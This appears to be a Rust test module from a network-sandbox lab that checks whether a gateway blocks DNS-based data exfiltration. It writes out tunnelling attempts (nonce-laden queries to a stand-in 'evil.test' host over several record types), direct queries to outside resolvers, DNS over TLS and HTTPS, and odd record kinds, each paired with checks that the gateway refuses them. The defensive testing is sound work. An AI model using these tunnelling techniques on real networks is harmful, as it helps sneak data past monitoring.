//! Attacks 2, 4, 5, 30: what a lookup can carry out, and what its answer can carry in.

use cofferdam_lab::probe::{Outcome, Task};

use crate::house::RESOLVERS;
use crate::place::Place;
use crate::trial::{Trial, word};

const A: u16 = 1;
const AAAA: u16 = 28;
const MX: u16 = 15;
const TXT: u16 = 16;
const NULL: u16 = 10;
const IN: u16 = 1;

fn query(place: &Place, server: &str, tcp: bool, name: &str, kind: u16) -> Outcome {
    place.ask(&Task::Query {
        server: server.to_owned(),
        tcp,
        name: name.to_owned(),
        kind,
        class: IN,
    })
}

/// Where programs of this place send their lookups.
fn resolver(place: &Place) -> String {
    let path = "/etc/resolv.conf".to_owned();
    let file = place.ask(&Task::Read { path }).heard;
    let line = file
        .lines()
        .find_map(|line| line.strip_prefix("nameserver "));
    format!("{}:53", line.unwrap_or("192.0.2.53").trim())
}

/// Asks for an address by hand: any bytes are a name.
pub(crate) fn address(place: &Place, name: &str) -> Outcome {
    query(place, &resolver(place), false, name, A)
}

pub(crate) fn denied_name(trial: &mut Trial<'_>) {
    trial.exfil("a lookup as programs do it", |place, nonce| {
        let name = format!("{nonce}.denied.test");
        place.ask(&Task::Lookup { name })
    });
    let outcome = trial.bench.wall.ask(&Task::Lookup {
        name: "denied.test".to_owned(),
    });
    trial.refuses("no answer", outcome.found.is_empty(), &outcome);
    let outcome = trial.bench.wall.ask(&Task::Lookup {
        name: "allowed.test".to_owned(),
    });
    trial.works("an allowed name", !outcome.found.is_empty(), &outcome);
    trial.allowed_works();
}

pub(crate) fn tunnel(trial: &mut Trial<'_>) {
    trial.exfil("200 queries", |place, nonce| {
        let server = resolver(place);
        let mut all = Outcome::default();
        for number in 0..50 {
            for kind in [A, TXT, NULL, MX] {
                let name = format!("{nonce}.{number}.evil.test");
                let outcome = query(place, &server, number % 10 == 9, &name, kind);
                all.found.extend(outcome.found);
                all.error = outcome.error;
            }
        }
        all
    });
    // The house has a resolver there, as machines have.
    for server in RESOLVERS {
        trial.exfil(server, |place, nonce| {
            query(place, server, false, &format!("{nonce}.evil.test"), TXT)
        });
    }
    // Below an allowed name, and in the part of a wildcard: nothing leaves by the lookup alone.
    for parent in ["allowed.test", "wild.test"] {
        trial.exfil(parent, |place, nonce| {
            let server = resolver(place);
            query(place, &server, false, &format!("{nonce}.{parent}"), TXT)
        });
    }
    trial.allowed_works();
}

pub(crate) fn own_server(trial: &mut Trial<'_>) {
    for over_tcp in [false, true] {
        let what = if over_tcp { "tcp/53" } else { "udp/53" };
        trial.exfil(what, |place, nonce| {
            query(
                place,
                "192.0.2.53:53",
                over_tcp,
                &format!("{nonce}.test"),
                A,
            )
        });
    }
    trial.exfil("udp/53 of a public server", |place, nonce| {
        query(place, "8.8.8.8:53", false, &format!("{nonce}.test"), A)
    });
    trial.exfil("tcp/853", |place, nonce| {
        place.ask(&word("192.0.2.53:853", nonce))
    });
    trial.exfil("https", |place, nonce| {
        place.ask(&word("192.0.2.53:443", nonce))
    });
    trial.allowed_works();
}

pub(crate) fn other_kinds(trial: &mut Trial<'_>) {
    const ANY: u16 = 255;
    const CHAOS: u16 = 3;
    for (name, kind, class) in [
        ("allowed.test", TXT, IN),
        ("allowed.test", ANY, IN),
        ("allowed.test", 65, IN),
        ("allowed.test", 64, IN),
        ("_http._tcp.allowed.test", 33, IN),
        ("allowed.test", NULL, IN),
        ("allowed.test", MX, IN),
        ("allowed.test", 39, IN),
        ("10.113.0.203.in-addr.arpa", 12, IN),
        ("version.bind", TXT, CHAOS),
        ("allowed.test", 252, IN),
    ] {
        let what = format!("{name} kind {kind} class {class}");
        for over_tcp in [false, true] {
            let task = |place: &Place| Task::Query {
                server: resolver(place),
                tcp: over_tcp,
                name: name.to_owned(),
                kind,
                class,
            };
            let open = &trial.bench.open;
            // The lab's server answers for every name that it has addresses of.
            let answered = open.ask(&task(open));
            trial.fires(&what, !answered.found.is_empty(), &answered);
            let mark = trial.bench.control.mark().unwrap();
            let wall = &trial.bench.wall;
            let outcome = wall.ask(&task(wall));
            trial.refuses(&what, outcome.found.is_empty(), &outcome);
            let mut seen = trial.bench.control.since(mark).unwrap();
            // An address of another name is what the gateway asks again for, where a server was silent before.
            (seen.queries).retain(|query| {
                query.name.eq_ignore_ascii_case(name)
                    || query.class != IN
                    || ![A, AAAA].contains(&query.kind)
            });
            trial.refuses(&what, seen.queries.is_empty(), &seen.queries);
        }
    }
    let wall = &trial.bench.wall;
    let outcome = query(wall, &resolver(wall), false, "allowed.test", A);
    let synthetic = outcome
        .found
        .first()
        .is_some_and(|record| record.starts_with("1 c612"));
    trial.works("an address", synthetic, &outcome);
    trial.allowed_works();
}
